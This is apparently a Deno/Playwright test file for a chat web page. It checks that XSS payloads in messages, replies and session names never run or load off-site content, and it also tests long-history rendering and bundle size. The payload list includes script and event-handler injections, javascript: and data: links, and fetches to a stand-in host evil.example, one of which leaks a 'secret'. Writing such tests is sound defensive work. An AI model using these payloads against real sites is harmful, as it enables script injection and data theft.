import { assert, assertEquals } from "@std/assert";
import { build } from "../../src/cli/build_page.ts";
import { endBrowserAfterAll, isQuiet, isTrue, pageTest, say } from "../support/page.ts";
import { withServer } from "../support/server.ts";

endBrowserAfterAll();

/** Script injections, each of which would set `globalThis.broken`. */
const PAYLOADS = [
  "<script>broken=1</script>",
  "<img src=x onerror=broken=1>",
  "<svg onload=broken=1>",
  "<svg><script>broken=1</script></svg>",
  "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
  "<a href='javascript:broken=1' id=pwn>click</a>",
  "[click](javascript:broken=1)",
  "[click](  JaVaScRiPt:broken=1)",
  "[click](data:text/html,<script>opener.broken=1</script>)",
  '![x](x"onerror="broken=1)',
  "<math><mtext><table><mglyph><style><img src=x onerror=broken=1>",
  "<details open ontoggle=broken=1>",
  "<input autofocus onfocus=broken=1>",
  "<form action='javascript:broken=1'><button>go</button></form>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:broken=1'>",
  "```html\n<script>broken=1</script>\n```",
  '```"><img src=x onerror=broken=1>\ncode\n```',
  "<div style='background:url(https://evil.example/x)'>x</div>",
  "<object data='javascript:broken=1'></object>",
  "![steal](https://evil.example/?secret)",
  "<noscript><p title='</noscript><img src=x onerror=broken=1>'>",
] as const;

pageTest(
  "law 7: script in a message, reply or name never runs, and loads nothing from other sites",
  async (visitor) => {
    await withServer(async ({ url, claude }) => {
      const page = await visitor.open(`${url}/?session=xss`);
      for (const payload of PAYLOADS) {
        claude.script.push({ kind: "reply", text: `Reply ${payload}` });
        await say(page, `Say ${payload}`);
        await isQuiet(page);
      }
      await fetch(`${url}/v1/sessions/xss`, {
        method: "PATCH",
        body: JSON.stringify({ name: "<img src=x onerror=broken=1>" }),
      }).then((response) => response.body?.cancel());
      await page.getByRole("heading", { name: "<img src=x onerror=broken=1>", level: 1 }).waitFor();
      await page.reload();
      await isQuiet(page);
      await page.locator(".prose").getByText(PAYLOADS.at(-1) ?? "").waitFor();
      const links = page.getByRole("link", { name: "click" });
      if (await links.count() > 0) await links.first().click();
      assertEquals(await page.evaluate("globalThis.broken"), undefined);
      assertEquals(new URL(page.url()).origin, url);
      const hrefs = await page.locator(".prose a").evaluateAll((links) =>
        links.map((link) => link.getAttribute("href") ?? "")
      );
      assertEquals(hrefs.filter((href) => /^\s*(javascript|data):/i.test(href)), []);
      visitor.failures.splice(
        0,
        Infinity,
        ...visitor.failures.filter((failure) => !/Content Security Policy/.test(failure)),
      );
    });
  },
);

pageTest(
  "5,000 turns: the page renders only those on screen, and can scroll to the first",
  async (visitor) => {
    await withServer(async ({ url }) => {
      const at = "2026-01-01T00:00:00Z";
      const lines = Array.from({ length: 10_000 }, (_, index) =>
        JSON.stringify({
          role: index % 2 === 0 ? "user" : "assistant",
          text: `${index % 2 === 0 ? "Message" : "Reply"} ${index >> 1}. ${
            "word ".repeat(index % 23)
          }`,
          at,
        }));
      const imported = await fetch(`${url}/v1/sessions/long/import`, {
        method: "POST",
        body: lines.join("\n"),
      });
      assertEquals(imported.status, 201, await imported.text());
      const page = await visitor.open(`${url}/?session=long`);
      await page.getByText("Reply 4999.").first().waitFor();
      const held = () => page.locator(".entry").count();
      assert(await held() < 80, `${await held()} turns are in the page`);
      // What is loaded on the way moves the beginning away again.
      await isTrue(
        page,
        `document.querySelector(".log").scrollTop = 0,
        [...document.querySelectorAll(".bubble")].some((each) => each.textContent.includes("Message 0."))`,
      );
      assert(await held() < 80, `${await held()} turns are in the page`);
      await page.getByRole("button", { name: "Jump to the latest message" }).click();
      await page.getByText("Reply 4999.").first().waitFor();
      assert(await held() < 80, `${await held()} turns are in the page`);
    });
  },
);

Deno.test("the page's first load is less than 60 KB gzipped, the highlighter apart", async () => {
  await build();
  const dist = new URL("../../dist/", import.meta.url);
  const html = await Deno.readTextFile(new URL("index.html", dist));
  const first = Array.from(
    html.matchAll(/"\/(assets\/[^"]+\.(?:js|css))"/g),
    ([, path = ""]) => path,
  );
  const scripts = first.filter((path) => path.endsWith(".js"));
  const texts = await Promise.all(scripts.map((path) => Deno.readTextFile(new URL(path, dist))));
  const prose = [...new Set(texts.join().match(/prose-\w+\.js/g))].map((name) => `assets/${name}`);
  let bytes = 0;
  for (const path of ["index.html", ...first, ...prose]) {
    const file = await Deno.readFile(new URL(path, dist));
    const zipped = new Blob([file]).stream().pipeThrough(new CompressionStream("gzip"));
    bytes += (await new Response(zipped).arrayBuffer()).byteLength;
  }
  assertEquals(prose.length, 1, "what shows replies is loaded by itself");
  assert(first.length >= 2 && first.length <= 4, `${first} are loaded before it can be used`);
  assert(bytes < 60 * 1_024, `${bytes} bytes`);
});
